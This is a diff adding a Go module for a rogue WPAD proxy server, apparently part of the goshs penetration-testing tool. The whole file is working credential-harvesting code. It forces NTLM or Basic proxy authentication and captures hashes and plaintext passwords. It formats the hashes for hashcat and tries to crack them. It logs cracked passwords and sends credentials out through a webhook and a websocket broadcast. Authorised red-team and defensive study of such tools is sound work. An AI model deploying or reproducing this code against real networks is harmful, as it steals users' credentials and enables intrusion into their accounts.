@@ -0,0 +1,436 @@
+package wpadserver
+
+import (
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+
+	"goshs.de/goshs/v2/logger"
+	"goshs.de/goshs/v2/metrics"
+	"goshs.de/goshs/v2/smbserver"
+	"goshs.de/goshs/v2/webhook"
+	"goshs.de/goshs/v2/ws"
+)
+
+type connStateKey struct{}
+
+// connState carries the per-connection NTLM handshake and capture state.
+type connState struct {
+	mu        sync.Mutex
+	challenge *smbserver.NTLMChallenge // non-nil between Type 2 and Type 3
+	authed    bool
+	user      string
+	captured  map[string]bool // credentials already reported on this connection
+}
+
+// hopHeaders are stripped before a request or response crosses the proxy.
+var hopHeaders = []string{
+	"Connection",
+	"Proxy-Connection",
+	"Keep-Alive",
+	"Proxy-Authenticate",
+	"Proxy-Authorization",
+	"Te",
+	"Trailer",
+	"Transfer-Encoding",
+	"Upgrade",
+}
+
+func (s *WPADServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	cs, ok := r.Context().Value(connStateKey{}).(*connState)
+	if !ok {
+		cs = &connState{}
+	}
+
+	cs.mu.Lock()
+	authed := cs.authed
+	cs.mu.Unlock()
+
+	if !authed && !s.authenticate(w, r, cs) {
+		return
+	}
+
+	if !s.Forward {
+		proxyAccess(r, connUser(r), http.StatusForbidden).Infof("[wpad] %s - refusing %s %s after capture", r.RemoteAddr, r.Method, r.Host)
+		http.Error(w, "Access denied by proxy policy", http.StatusForbidden)
+		return
+	}
+
+	if r.Method == http.MethodConnect {
+		s.tunnel(w, r)
+		return
+	}
+	s.forward(w, r)
+}
+
+// authenticate runs the proxy authentication handshake. It returns true once
+// credentials were captured for this connection; otherwise it has already
+// written a 407 response.
+func (s *WPADServer) authenticate(w http.ResponseWriter, r *http.Request, cs *connState) bool {
+	// Drain the body so the connection stays usable for the next handshake leg.
+	if r.Body != nil {
+		_, _ = io.Copy(io.Discard, r.Body)
+	}
+
+	scheme, token, _ := strings.Cut(r.Header.Get("Proxy-Authorization"), " ")
+	switch {
+	case s.Auth == AuthNTLM && (strings.EqualFold(scheme, "NTLM") || strings.EqualFold(scheme, "Negotiate")):
+		return s.handleNTLM(w, r, cs, scheme, token)
+	case strings.EqualFold(scheme, "Basic"):
+		return s.handleBasic(w, r, cs, token)
+	default:
+		s.demandAuth(w, "")
+		return false
+	}
+}
+
+// demandAuth answers with 407 and the challenge for the configured scheme.
+// A non-empty ntlmToken continues an NTLM handshake.
+func (s *WPADServer) demandAuth(w http.ResponseWriter, ntlmToken string) {
+	switch {
+	case ntlmToken != "":
+		w.Header().Set("Proxy-Authenticate", "NTLM "+ntlmToken)
+	case s.Auth == AuthNTLM:
+		w.Header().Set("Proxy-Authenticate", "NTLM")
+	default:
+		w.Header().Set("Proxy-Authenticate", fmt.Sprintf(`Basic realm="%s"`, s.Realm))
+	}
+	w.Header().Set("Proxy-Connection", "keep-alive")
+	w.Header().Set("Content-Length", "0")
+	w.WriteHeader(http.StatusProxyAuthRequired)
+}
+
+func (s *WPADServer) handleNTLM(w http.ResponseWriter, r *http.Request, cs *connState, scheme, token string) bool {
+	raw, err := base64.StdEncoding.DecodeString(strings.TrimSpace(token))
+	if err != nil {
+		logger.Debugf("[wpad] invalid %s token from %s: %v", scheme, r.RemoteAddr, err)
+		s.demandAuth(w, "")
+		return false
+	}
+	msg := smbserver.ExtractNTLM(raw)
+	if len(msg) < 12 {
+		s.demandAuth(w, "")
+		return false
+	}
+
+	switch binary.LittleEndian.Uint32(msg[8:12]) {
+	case smbserver.NTLMSSP_NEGOTIATE:
+		challenge, err := smbserver.NewChallenge(s.Realm)
+		if err != nil {
+			logger.Errorf("[wpad] NTLM new challenge: %v", err)
+			http.Error(w, "Internal proxy error", http.StatusInternalServerError)
+			return false
+		}
+		// Browsers speak NTLMv2 only; a downgrade would just break the handshake.
+		challenge.DowngradeLevel = smbserver.DowngradeNTLMv2
+		if len(msg) >= 16 {
+			challenge.ClientFlags = binary.LittleEndian.Uint32(msg[12:16])
+		}
+		cs.mu.Lock()
+		cs.challenge = challenge
+		cs.mu.Unlock()
+
+		logger.Debugf("[wpad] NTLM leg 1: sending Type 2 challenge to %s", r.RemoteAddr)
+		s.demandAuth(w, base64.StdEncoding.EncodeToString(challenge.BuildChallengeMessage()))
+		return false
+
+	case smbserver.NTLMSSP_AUTH:
+		cs.mu.Lock()
+		challenge := cs.challenge
+		cs.challenge = nil
+		cs.mu.Unlock()
+		if challenge == nil {
+			logger.Debugf("[wpad] NTLM Type 3 without challenge from %s", r.RemoteAddr)
+			s.demandAuth(w, "")
+			return false
+		}
+
+		captured, err := challenge.ParseAuthMessage(msg)
+		if err != nil {
+			logger.Warnf("[wpad] NTLM parse error from %s: %v", r.RemoteAddr, err)
+			s.demandAuth(w, "")
+			return false
+		}
+		if captured.Username == "" {
+			// Anonymous Type 3 — ask again, the client may retry with real credentials.
+			s.demandAuth(w, "")
+			return false
+		}
+
+		s.captureNTLM(r, captured)
+		s.markAuthed(cs, captured.Domain+"\\"+captured.Username)
+		return true
+
+	default:
+		s.demandAuth(w, "")
+		return false
+	}
+}
+
+func (s *WPADServer) handleBasic(w http.ResponseWriter, r *http.Request, cs *connState, token string) bool {
+	decoded, err := base64.StdEncoding.DecodeString(strings.TrimSpace(token))
+	if err != nil {
+		s.demandAuth(w, "")
+		return false
+	}
+	username, password, ok := strings.Cut(string(decoded), ":")
+	if !ok {
+		s.demandAuth(w, "")
+		return false
+	}
+
+	cs.mu.Lock()
+	if cs.captured == nil {
+		cs.captured = make(map[string]bool)
+	}
+	seen := cs.captured[string(decoded)]
+	cs.captured[string(decoded)] = true
+	cs.mu.Unlock()
+
+	if !seen {
+		s.captureBasic(r, username, password)
+	}
+	s.markAuthed(cs, username)
+	return true
+}
+
+func (s *WPADServer) markAuthed(cs *connState, user string) {
+	cs.mu.Lock()
+	cs.authed = true
+	cs.user = user
+	cs.mu.Unlock()
+}
+
+func (s *WPADServer) captureNTLM(r *http.Request, captured *smbserver.CapturedHash) {
+	cracked, _ := smbserver.TryCrackDefault(captured)
+	metrics.CountHash("wpad", cracked)
+
+	a := proxyAccess(r, captured.Domain+"\\"+captured.Username, 0)
+	a.Event = "hash_capture"
+	a.Infof("[wpad] captured %s hash from %s\\%s at %s", captured.Protocol, captured.Domain, captured.Username, r.RemoteAddr)
+	logger.Infof("[wpad] hashcat (-m %s): %s", captured.HashcatMode, captured.HashcatLine)
+	if cracked != "" {
+		logger.Infof("[wpad] cracked %s\\%s — plaintext: %s", captured.Domain, captured.Username, cracked)
+	}
+	s.broadcastNTLM(captured, r.RemoteAddr, cracked)
+
+	if s.Cracker != nil {
+		snap := *captured
+		source := r.RemoteAddr
+		s.Cracker.Submit(&snap, "wpad", source, cracked, "", func(pw string) {
+			s.broadcastNTLM(&snap, source, pw)
+		})
+	}
+}
+
+func (s *WPADServer) broadcastNTLM(captured *smbserver.CapturedHash, source, cracked string) {
+	event := ws.NTLMEvent{
+		Type:            "smb",
+		Protocol:        "wpad",
+		Username:        captured.Username,
+		Domain:          captured.Domain,
+		Workstation:     captured.Workstation,
+		Challenge:       fmt.Sprintf("%X", captured.ServerChallenge),
+		Hash:            captured.HashcatLine,
+		HashType:        string(captured.Protocol),
+		HashcatMode:     captured.HashcatMode,
+		CrackedPassword: cracked,
+		Source:          source,
+		Timestamp:       time.Now(),
+	}
+	s.broadcast(event)
+
+	if s.WebHook != nil {
+		msg := fmt.Sprintf("[WPAD] NTLM hash from %s\nUser: %s\nDomain: %s\nWorkstation: %s\nHash Type: %s\nHashcat Mode: hashcat -m %s",
+			source, captured.Username, captured.Domain, captured.Workstation, captured.Protocol, captured.HashcatMode)
+		if cracked != "" {
+			msg = fmt.Sprintf("%s\nCracked: %s", msg, cracked)
+		}
+		msg = fmt.Sprintf("%s\n\n%s", msg, captured.HashcatLine)
+		e := webhook.NewEvent("wpad", msg)
+		e.Remote = source
+		e.User = captured.Username
+		e.Hashes = []string{captured.HashcatLine}
+		e.Fields = map[string]string{
+			"domain":       captured.Domain,
+			"workstation":  captured.Workstation,
+			"hash_type":    string(captured.Protocol),
+			"hashcat_mode": captured.HashcatMode,
+		}
+		if cracked != "" {
+			e.Fields["password"] = cracked
+		}
+		logger.HandleWebhookEvent(e, *s.WebHook)
+	}
+}
+
+func (s *WPADServer) captureBasic(r *http.Request, username, password string) {
+	a := proxyAccess(r, username, 0)
+	a.Event = "credential"
+	a.Infof("[wpad] basic credentials from %s: user=%q password=%q", r.RemoteAddr, username, password)
+
+	headers := make(map[string]string, len(r.Header))
+	for k, v := range r.Header {
+		headers[k] = strings.Join(v, ", ")
+	}
+	event := ws.HTTPEvent{
+		Type:       "http",
+		Method:     r.Method,
+		URL:        r.RequestURI,
+		Body:       fmt.Sprintf("[WPAD] Proxy basic auth: %s:%s", username, password),
+		Parameters: r.URL.Query().Encode(),
+		Headers:    headers,
+		Source:     r.RemoteAddr,
+		UserAgent:  r.UserAgent(),
+		Status:     http.StatusProxyAuthRequired,
+		Timestamp:  time.Now(),
+	}
+	s.broadcast(event)
+
+	if s.WebHook != nil {
+		msg := fmt.Sprintf("[WPAD] Proxy basic credentials from %s\nUser: %s\nPassword: %s\nTarget: %s %s",
+			r.RemoteAddr, username, password, r.Method, r.RequestURI)
+		e := webhook.NewEvent("wpad", msg)
+		e.Remote = r.RemoteAddr
+		e.User = username
+		e.Path = r.RequestURI
+		e.Fields = map[string]string{"password": password, "method": r.Method}
+		logger.HandleWebhookEvent(e, *s.WebHook)
+	}
+}
+
+func (s *WPADServer) broadcast(event any) {
+	if s.Hub == nil {
+		return
+	}
+	b, err := json.Marshal(event)
+	if err != nil {
+		logger.Errorf("Error marshalling wpad event: %v", err)
+		return
+	}
+	s.Hub.Broadcast <- b
+}
+
+// forward relays a plain HTTP request to its origin server.
+func (s *WPADServer) forward(w http.ResponseWriter, r *http.Request) {
+	if !r.URL.IsAbs() {
+		http.Error(w, "This is a proxy, send absolute request URIs", http.StatusBadRequest)
+		return
+	}
+
+	out := r.Clone(r.Context())
+	out.RequestURI = ""
+	removeHopHeaders(out.Header)
+
+	resp, err := s.upstream.RoundTrip(out)
+	if err != nil {
+		logger.Debugf("[wpad] forwarding %s failed: %v", r.URL, err)
+		http.Error(w, "Bad gateway", http.StatusBadGateway)
+		return
+	}
+	defer resp.Body.Close()
+
+	removeHopHeaders(resp.Header)
+	for k, v := range resp.Header {
+		for _, vv := range v {
+			w.Header().Add(k, vv)
+		}
+	}
+	w.WriteHeader(resp.StatusCode)
+	if _, err := io.Copy(w, resp.Body); err != nil {
+		logger.Debugf("[wpad] copying response for %s: %v", r.URL, err)
+	}
+	proxyAccess(r, connUser(r), resp.StatusCode).Infof("[wpad] %s - [%d] - \"%s %s\"", r.RemoteAddr, resp.StatusCode, r.Method, r.URL)
+}
+
+// tunnel handles CONNECT by splicing the client connection to the target.
+func (s *WPADServer) tunnel(w http.ResponseWriter, r *http.Request) {
+	target, err := s.dialer.DialContext(r.Context(), "tcp", r.Host)
+	if err != nil {
+		logger.Debugf("[wpad] CONNECT %s failed: %v", r.Host, err)
+		http.Error(w, "Bad gateway", http.StatusBadGateway)
+		return
+	}
+
+	hj, ok := w.(http.Hijacker)
+	if !ok {
+		target.Close()
+		http.Error(w, "Tunneling not supported", http.StatusInternalServerError)
+		return
+	}
+	client, buf, err := hj.Hijack()
+	if err != nil {
+		target.Close()
+		return
+	}
+	proxyAccess(r, connUser(r), http.StatusOK).Infof("[wpad] %s - [200] - \"CONNECT %s\"", r.RemoteAddr, r.Host)
+
+	if _, err := client.Write([]byte("HTTP/1.1 200 Connection Established\r\n\r\n")); err != nil {
+		client.Close()
+		target.Close()
+		return
+	}
+
+	done := make(chan struct{}, 2)
+	go func() {
+		// Flush anything the client pipelined after the CONNECT line.
+		if n := buf.Reader.Buffered(); n > 0 {
+			pending, _ := buf.Reader.Peek(n)
+			_, _ = target.Write(pending)
+		}
+		_, _ = io.Copy(target, client)
+		closeWrite(target)
+		done <- struct{}{}
+	}()
+	go func() {
+		_, _ = io.Copy(client, target)
+		closeWrite(client)
+		done <- struct{}{}
+	}()
+	<-done
+	<-done
+	client.Close()
+	target.Close()
+}
+
+func removeHopHeaders(h http.Header) {
+	for _, k := range hopHeaders {
+		h.Del(k)
+	}
+}
+
+func closeWrite(c net.Conn) {
+	if cw, ok := c.(interface{ CloseWrite() error }); ok {
+		_ = cw.CloseWrite()
+	}
+}
+
+// connUser returns the user the connection of r authenticated as.
+func connUser(r *http.Request) string {
+	cs, ok := r.Context().Value(connStateKey{}).(*connState)
+	if !ok {
+		return ""
+	}
+	cs.mu.Lock()
+	defer cs.mu.Unlock()
+	return cs.user
+}
+
+// proxyAccess returns the structured fields of a proxied request of user.
+func proxyAccess(r *http.Request, user string, status int) logger.Access {
+	a := logger.RequestAccess(r, status)
+	a.Protocol = "wpad"
+	a.User = user
+	a.Path = r.URL.String()
+	if r.Method == http.MethodConnect {
+		a.Path = r.Host
+	}
+	return a
+}